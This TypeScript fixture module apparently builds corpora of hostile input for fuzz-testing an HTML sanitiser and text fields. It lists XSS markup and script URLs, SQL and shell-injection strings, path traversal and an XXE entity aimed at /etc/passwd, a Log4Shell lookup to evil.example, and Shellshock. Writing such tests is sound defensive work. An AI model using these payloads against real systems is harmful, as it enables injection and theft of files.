import { existsSync, globSync, readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { hostileMarkup, hostileWords } from './hostile-texts.ts';

/**
 * Texts written to do harm, by their authors. Ours are in this project, so that every clone has them; those that others
 * collected are in ../shared/data, and are null if that is not available.
 */
export interface Corpus<Item = string> {
  of: string;
  items: readonly Item[] | null;
}

/** Addresses that lead to a script, as various browsers have read them. */
const scriptAddresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\nscript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#106;&#97;&#118;&#97;script:alert(1)',
  '&#x6a&#x61&#x76&#x61script:alert(1)',
  '&#0000106avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://example.org/%0aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://stele.example/1',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  '//evil.example/x',
  '/\\evil.example',
  '\\\\evil.example\\x',
  'https:evil.example',
  'http://user:password@evil.example',
];
/** Elements that run a handler, or that load something external. */
const foreignElements = [
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>a</text></a></svg>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"></svg>',
  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">a</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src onerror=alert(1)></annotation-xml></math>',
  '<details open ontoggle=alert(1)>a</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src onloadstart=alert(1)>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<object data="javascript:alert(1)"><param name=x></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<applet code="X.class"></applet>',
  '<isindex type=image src=x onerror=alert(1)>',
  '<form id=f action=javascript:alert(1)><input type=submit></form><button form=f formaction=//evil.example>a</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus><option>a</select>',
  '<textarea onfocus=alert(1) autofocus>a</textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<body onload=alert(1) background="javascript:alert(1)">a',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<link rel=import href="//evil.example/x"><link rel=stylesheet href="data:,*{}">',
  '<meta http-equiv=refresh content="0;javascript:alert(1)"><base href="//evil.example">',
  '<portal src="//evil.example"></portal><fencedframe src="//evil.example"></fencedframe>',
  '<x-own onclick=alert(1) is=a>a</x-own>',
];
/** Markup that parsers read differently from one another, or from their own output. */
const ambiguousMarkup = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><s><template><s><img src=x onerror=alert(1)></s></template>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<title><a href="</title><img src=1 onerror=alert(1)>">',
  '<textarea><a title="</textarea><img src=1 onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg onload=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
  '<a href="a"><a href="b" onclick=alert(1)>c</a>',
  '<p title=`a` onclick=`alert(1)`>b',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x title=a/onerror=alert(1)>',
  '<img/src/onerror=alert(1)//>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script y>',
  '<a\u000bonclick=alert(1)>b<a\u00a0onclick=alert(1)>c',
  '<\u0000script>alert(1)</script\u0000>',
  '\ufeff<\ud800script>alert(1)</script>',
];
/** Styles and names that imitate those of our pages. */
const disguises = [
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p style="width:expression(alert(1))">a</p>',
  '<p style="behavior:url(#default#time2)">a</p>',
  '<p style="-moz-binding:url(//evil.example#x)">a</p>',
  '<p style="color:red;}*{display:none">a</p>',
  '<p style="c\\6flor:red;p\\osition:fixed">a</p>',
  '<p style="color:/*;*/red;position:/**/absolute;inset:0">a</p>',
  '<p style="@import \'//evil.example\'">a</p>',
  '<p id="content" class="dialog notices error" contenteditable="true">a</p>',
  '<p id=__proto__ class=constructor data-__proto__=x>a</p>',
  '<a name=cookie href=x>a</a><img name=getElementById src=x>',
  '<span ref-id="javascript:alert(1)" cite-id="&quot;><script>" note-id="-1">a</span>',
  '<td colspan="99999999" rowspan="-1">a<th colspan="1e9">b',
  '<img src="https://evil.example/count.gif" width=0 height=0>',
];
const ownAttacks = [
  ...hostileMarkup,
  ...scriptAddresses.flatMap((address) => [`<a href="${address}">a</a>`, `<img src='${address}' alt=a>`]),
  ...foreignElements,
  ...ambiguousMarkup,
  ...disguises,
];

/** Malformed markup: truncated, doubled, out of range. */
const ownMalformed = [
  ['<', '</', '<!', '<!-', '<!--', '<!--a', '<?', '<a', '<a ', '<a b', '<a b=', '<a b="', "<a b='", '<a b=c'],
  ['<a/', '</>', '<>', '< a>', '</ a>', '<1>', '<=>', '<a<b>', '<a =b>', '<a "b">', '<a b="c"d="e">'],
  ['<a a=1 A=2 a=3>', '&', '&#', '&#x', '&#;', '&#x;', '&#0;', '&#x80;', '&#xD800;', '&#x110000;'],
  ['&#99999999999;', '&#-1;', '&ampx;', '&notit;', '&not;it', '&lt', '&ltb>', '&AMP;lt;', '&fjlig;'],
  ['&NotEqualTilde;', '&CounterClockwiseContourIntegral;', '<!DOCTYPE', '<!DOCTYPE >', '<!doctype html public "'],
  ['<!ELEMENT a>', ']]>', '<![CDATA[', '<![CDATA[a]]', '--!>', '<br/></br>', '</p>', '<p></p></p>', '<p/>a'],
  ['<script', '<script>', '<script><!--<script>', '<title></titl', '<table><table>', '<tr><td>', '</table><td>'],
  ['<table>a<tr>b<td>c', '<col><caption>', '<li><ul><li></li>', '<b><i></b></i>', '<a><b><a></b>'],
  ['<p><b><p></b>', '<h1><h2></h1>', '<ruby><rt><rp><rt></ruby>', '<dl><dd><dl>', '\0', '<\0>', '<a\0b>'],
  ['<a b=\0>', '&\0;', '\r\n\r', '\f<\fa\f>', '\u2028', '\ufffe', '\udc00<b>', '<b>\ud83d', '<'.repeat(300)],
  ['<b>'.repeat(300), '</b>'.repeat(300), '<a '.repeat(300), '&'.repeat(300), '"'.repeat(300)],
  [`<p ${'a'.repeat(70_000)}=b>c`, `<p a="${'b'.repeat(70_000)}">c`, `<${'p'.repeat(70_000)}>c`],
  [`<!--${'-'.repeat(70_000)}`, `&${'a'.repeat(70_000)};`],
].flat();

/** Names, pasted texts and attacks in fields for plain text. */
const ownWords = [
  ...hostileWords,
  ...[
    ['', ' ', '\t', 'null', 'undefined', 'NaN', 'true', 'None', 'nil', '(null)', '0', '-0', '1e309', '0x10', '１２３'],
    ['9007199254740993', '-2147483649', '0.1e-400', '1,000,000.5', '1 000,5', '٣٫١٤', '½', '²', 'Ⅻ', '一万'],
    ['toString', 'hasOwnProperty', 'valueOf', '[object Object]', 'function(){}', '${1+1}', '{{7*7}}', '<%= 1 %>'],
    ['#{1}', "' or 1=1 --", '"; select 1; --', '1; drop table member', "\\'; --", '%', '_', '\\', '$1', '$$'],
    [':name', '?', '../../etc/passwd', '..\\..\\windows', 'CON', 'NUL.txt', '/dev/null', '~', '*', '|', '`id`'],
    ['$(id)', '; ls', '&& ls', '%s%n%x', '%d', '{0}', '\\n', '\\x00', '\\u202e', '%00', '%E0%A4%A', '%uD83D'],
    ['&nbsp;', '&#0;', '=1+1', '@SUM(A1)', '+cmd|x!A1', 'mailto:a@b.c?bcc=d', 'a\r\nb: c', 'a\r\n\r\n<html>'],
    ['x\u0000y', '\u0008\u007f', '\u0085', '\u2028a\u2029', '\ufeffa', 'a\u00adb', '\u200b\u200c\u200d', '\u2060'],
    ['\u180e', '\u3000', '\u00a0', '\u2003a', '\u202dabc\u202c', '\u2066a\u2069', '\u061ca', 'אבג abc דהו'],
    ['مرحبا abc', '\u0627\u0644\u0644\u0647', '﷽', 'ﷺ', 'Z̷̢͎a̶l̵g̴o̷', 'a\u0300\u0316'.repeat(40), 'e\u0301 é'],
    [
      'ﬁ',
      'ß ẞ',
      'İstanbul ıI',
      'Ǆ ǅ ǆ',
      'Σςσ',
      '한글 한글',
      'ｶﾞｷﾞ ガギ',
      '㍿ ㌀',
      '℡',
      'Ａ',
      '𝕬',
      'ᵃ',
      '𠮷野家',
      '𡨸喃',
      '㐂',
    ],
    ['⿰言襄', '葛\udb40\udd00城', '齉齾龘', '々〻〆', '「」『』', 'ﾊﾛｰ', 'பெயர்', 'ชื่อ', 'ꦲꦏ꧀ꦱꦫ', '𓂀𓆣', '𒀭', '👨‍👩‍👧‍👦', '🏳️‍🌈'],
    ['👍🏽', '🇺🇳', '1️⃣', '🫠', '\u{1f3fb}', '❤️ ❤', '\ue000', '\ufff9a\ufffb', '\u{10ffff}', '\ud800', '\udfff'],
    ['O’Brien', "d'Arc", 'Müller-Lüdenscheidt', 'van der Aa', 'X Æ A-12', 'Ng', 'Scunthorpe', 'Null', 'Ye'],
    ['María José', 'x'.repeat(10_000), '文'.repeat(10_000), ' '.repeat(10_000), '\n'.repeat(1000)],
    ['a '.repeat(5000), '-'.repeat(1000), '{"a":[1,{"b":null}]}', '[1,2'],
    ['<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', '() { :; }; echo x'],
    ['${jndi:ldap://evil.example/x}', '__import__("os").system("id")', 'eyJhbGciOiJub25lIn0.e30.'],
  ].flat(),
];

const shared = resolve(import.meta.dirname, '../../shared/data/26-hostile-input');
const isSharedAvailable = existsSync(shared);
const json = (path: string): unknown => JSON.parse(readFileSync(join(shared, path), 'utf8'));
const naughtyStrings = isSharedAvailable ? (json('strings/blns.json') as string[]) : null;

async function domPurify(): Promise<string[] | null> {
  if (!isSharedAvailable) return null;
  const { default: attacks } = (await import(/* @vite-ignore */ join(shared, 'html/dompurify/expect.mjs'))) as {
    default: { payload: string }[];
  };
  return attacks.map(({ payload }) => payload);
}
function html5lib(): string[] | null {
  if (!isSharedAvailable) return null;
  const folder = 'html/html5lib-tests/tokenizer';
  const letter = (_: string, code: string) => String.fromCharCode(Number.parseInt(code, 16));
  return readdirSync(join(shared, folder))
    .filter((name) => name.endsWith('.test'))
    .flatMap((name) => (json(`${folder}/${name}`) as { tests: { input: string; doubleEscaped?: boolean }[] }).tests)
    .map(({ input, doubleEscaped }) => (doubleEscaped ? input.replace(/\\u([0-9a-f]{4})/gi, letter) : input));
}

export const markupCorpora: readonly Corpus[] = [
  { of: 'our own attacks', items: ownAttacks },
  { of: 'our own malformed markup', items: ownMalformed },
  { of: 'our own strings', items: ownWords },
  { of: 'DOMPurify’s attacks', items: await domPurify() },
  { of: 'html5lib’s malformed pages', items: html5lib() },
  { of: 'the big list of naughty strings', items: naughtyStrings },
];
export const wordCorpora: readonly Corpus[] = [
  { of: 'our own strings', items: ownWords },
  { of: 'the big list of naughty strings', items: naughtyStrings },
];

/** A sample of all: others' texts if available, otherwise ours. */
export function sampleMarkup(maximum: number): string[] {
  const others = markupCorpora.slice(3).flatMap(({ items }) => items ?? []);
  const samples = others.length ? others : ownAttacks.slice(hostileMarkup.length);
  const step = Math.max(1, Math.floor(samples.length / maximum));
  return samples.filter((_, place) => place % step === 0);
}

/** Files by their name. */
export type PictureFile = readonly [name: string, read: () => Promise<Uint8Array> | Uint8Array];
export const collectedPictures: readonly PictureFile[] | null = isSharedAvailable
  ? globSync(`${shared}/images/**/*`, { withFileTypes: true })
      .filter((file) => file.isFile())
      .map(({ parentPath, name }) => [name, () => readFileSync(join(parentPath, name))] as const)
  : null;
